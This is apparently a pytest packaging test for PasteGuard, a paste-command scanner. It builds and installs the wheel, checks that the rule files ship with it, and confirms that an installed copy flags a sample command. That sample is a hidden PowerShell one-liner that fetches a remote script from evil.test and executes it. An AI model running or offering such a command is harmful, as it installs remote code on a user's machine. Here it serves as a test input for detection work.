"""The wheel as pip installs it: built from the project's files, installed into a fresh virtual
environment, and run from a folder that is not the checkout.

It proves that the rules, lists, icons and drawings travel inside the package (before, an
installed PasteGuard found no rules). The new environment takes its third-party
dependencies from the one running the tests (a path entry, not an install), so the test needs
no network; test_dependencies.py checks that each of them is declared.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import sysconfig
import zipfile
from pathlib import Path

import pytest

pytestmark = [pytest.mark.slow, pytest.mark.packaging]

REPO = Path(__file__).resolve().parents[2]
# what the wheel is built from: the code, the data and the build description, nothing else
SOURCES = ("app", "ui", "resources", "pyproject.toml", "setup.py", "README.md")
MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
SHIPPED = (
    "app/resources/rules/00-signals.yaml",
    "app/resources/trust.yaml",
    "app/resources/targets.yaml",
    "app/resources/remote_access.yaml",
    "app/resources/icons/protected-light.svg",
    "app/resources/learn/clickfix.svg",
)


def _copy_sources(to: Path) -> Path:
    ignore = shutil.ignore_patterns("__pycache__", "*.pyc", "*.egg-info")
    for name in SOURCES:
        source = REPO / name
        if source.is_dir():
            shutil.copytree(source, to / name, ignore=ignore)
        else:
            shutil.copy2(source, to / name)
    return to


def _run(*argv: str | Path, **kwargs: object) -> subprocess.CompletedProcess[str]:
    done = subprocess.run(
        [str(a) for a in argv], capture_output=True, text=True, timeout=300, **kwargs
    )
    assert done.returncode == 0, f"{argv}: {done.stdout}\n{done.stderr}"
    return done


@pytest.fixture(scope="module")
def wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("wheel")
    source = _copy_sources(root / "src")
    out = root / "dist"
    # no build isolation: setuptools is a test dependency, so nothing is fetched
    pip = (sys.executable, "-m", "pip")
    _run(*pip, "wheel", "-q", "--no-deps", "--no-build-isolation", "-w", out, source)
    (built,) = out.glob("pasteguard-*.whl")
    return built


@pytest.fixture(scope="module")
def venv(wheel: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    venv = tmp_path_factory.mktemp("venv")
    _run(sys.executable, "-m", "venv", "--without-pip", venv)
    python = venv / "bin" / "python"
    purelib = _run(python, "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])")
    site = Path(purelib.stdout.strip())
    # the dependencies of the test environment, after the venv's own packages on sys.path;
    # a .pth line only adds the folder: the checkout's editable-install hook there stays off
    (site / "zz_test_dependencies.pth").write_text(sysconfig.get_paths()["purelib"] + "\n")
    _run(sys.executable, "-m", "pip", "--python", python, "install", "-q", "--no-deps", wheel)
    return venv


@pytest.fixture
def elsewhere(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    """A working folder outside the checkout, and an environment with a private profile."""
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "PYTHONHOME")}
    env.update(
        PASTEGUARD_DATA_DIR=str(tmp_path / "data"),
        PASTEGUARD_CONFIG_DIR=str(tmp_path / "config"),
        PASTEGUARD_POLICY=str(tmp_path / "no-policy.toml"),
    )
    folder = tmp_path / "work"
    folder.mkdir()
    return folder, env


def test_the_wheel_carries_the_shipped_data(wheel: Path) -> None:
    names = set(zipfile.ZipFile(wheel).namelist())
    missing = [name for name in SHIPPED if name not in names]
    assert not missing, f"not in {wheel.name}: {missing}"
    # every file of resources/, wherever it sits (rules, their translations, lists, drawings)
    on_disk = {
        "app/resources/" + p.relative_to(REPO / "resources").as_posix()
        for p in (REPO / "resources").rglob("*")
        if p.is_file() and "__pycache__" not in p.parts
    }
    assert not on_disk - names, f"not in {wheel.name}: {sorted(on_disk - names)}"


def test_the_installed_wheel_scans_and_checks_its_rules_from_any_folder(
    venv: Path, elsewhere: tuple[Path, dict[str, str]]
) -> None:
    folder, env = elsewhere
    program = venv / "bin" / "pasteguard"

    where = _run(
        venv / "bin" / "python",
        "-c",
        "import app.shipped as s; print(s.__file__); print(s.resources_dir())",
        cwd=folder,
        env=env,
    ).stdout.split()
    # the installed package, not the checkout
    assert all(Path(p).is_relative_to(venv) for p in where), where

    scan = subprocess.run(
        [program, "scan", "--json", "--fail-on", "malicious", MALICIOUS],
        cwd=folder,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert scan.returncode == 1, scan.stderr
    assert json.loads(scan.stdout)["level"] == "malicious"

    rules = _run(program, "rules", "check", cwd=folder, env=env)
    assert rules.stdout.endswith(" rules loaded, 0 errors\n")
    assert int(rules.stdout.split()[0]) > 50
